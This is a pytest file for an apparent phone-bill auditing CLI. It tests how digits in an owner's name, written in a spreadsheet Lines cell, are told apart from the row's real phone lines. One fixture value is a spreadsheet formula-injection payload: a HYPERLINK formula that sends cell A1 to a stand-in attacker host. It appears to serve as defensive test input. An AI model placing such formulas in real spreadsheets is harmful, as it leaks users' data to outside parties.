"""An owner's name holding digits (``张三 13711112222``), written after its line in the
Actions sheet's 号码 Lines cell and masked there like one (``139****1111 张三
137****2222``), is the owner's text to ``auditor record --from``, not a line of the row:
a trial's row was refused as "137****2222 … is not one of this row's lines"."""

from __future__ import annotations

import pytest
from cli_run import run
from test_typed_lines import LINES, MIGU, bills, lines_cell, record_from, records, type_in

from auditor.history.typed_lines import amounts_chosen, lines_chosen, lines_typed

pytestmark = pytest.mark.usefixtures("december")

OWNER = '=HYPERLINK("http://evil.example/?"&A1,"x") 13711112222'


def test_an_owners_digits_in_the_lines_cell_are_not_read_as_a_line(tmp_path):
    bills(tmp_path / "oct", "2026-09", lines=LINES[:2])
    settings = tmp_path / "auditor.toml"
    settings.write_text(
        f"known_services = []\n[lines.\"{LINES[0]}\"]\nowner = '{OWNER}'\n", "utf-8"
    )
    report = tmp_path / "oct.xlsx"
    made = run(
        "audit", str(tmp_path / "oct"), "--known", str(settings), "--as-of", "2026-10-05",
        "--db", str(tmp_path / "h.sqlite"), "-o", str(report), "-q", "--lang", "en",
    )  # fmt: skip
    assert made.exit_code in (0, 1), made.output
    row = type_in(report, 1, "退订", "2026-10-03")
    printed = lines_cell(report, row)
    assert "137****2222" in printed  # the owner's digits, masked like a line
    recorded = record_from(tmp_path, report)
    assert recorded.exit_code == 0, recorded.output
    assert sorted(r["line"] for r in records(tmp_path)) == sorted(LINES[:2])
    assert all(r["service"] == MIGU for r in records(tmp_path))


def test_after_a_name_a_number_is_a_line_only_if_one_of_the_rows():
    lines = list(LINES)
    typed = lines_typed("139****1111 张三 137****2222\n139****2222 李四", True)
    assert typed.numbers == ("139****1111", "139****2222")
    assert typed.after == ("137****2222",)
    assert lines_chosen(typed, lines) == (frozenset(lines[:2]), "")
    # a line of the row written after a word is still a line
    typed = lines_typed("13900001111 和 13900003333", True)
    assert lines_chosen(typed, lines) == (frozenset({lines[0], lines[2]}), "")
    # a number that is none of the row's lines, before any name, is still refused
    chosen, problem = lines_chosen(lines_typed("139****1111 137****2222", True), lines)
    assert chosen is None and "137****2222" in problem
    # an amount after the owner's name is the line's; the owner's digits are not one
    typed = lines_typed("139****1111 员工 137****2222 15.00", True)
    assert amounts_chosen(typed, lines) == {lines[0]: 1500}


def test_a_full_number_typed_after_a_word_is_a_line_and_refused_when_none_of_the_rows():
    """The review: 13900001111 和 13900009999 recorded 1111 alone and said nothing of the
    mistyped 9999; a number written in full is the user's, not an owner's printed text."""
    from auditor.history.typed_lines import lines_chosen, lines_typed
    from auditor.lang import using

    row = ["13900001111", "13900002222"]
    with using("en"):
        chosen, problem = lines_chosen(lines_typed("13900001111 和 13900009999", False), row)
    assert (chosen, problem) == (
        None,
        "13900009999 in its Lines cell is not one of this row's lines",
    )
    both = lines_typed("13900001111 和 13900002222", False)
    assert lines_chosen(both, row) == (frozenset(row), "")
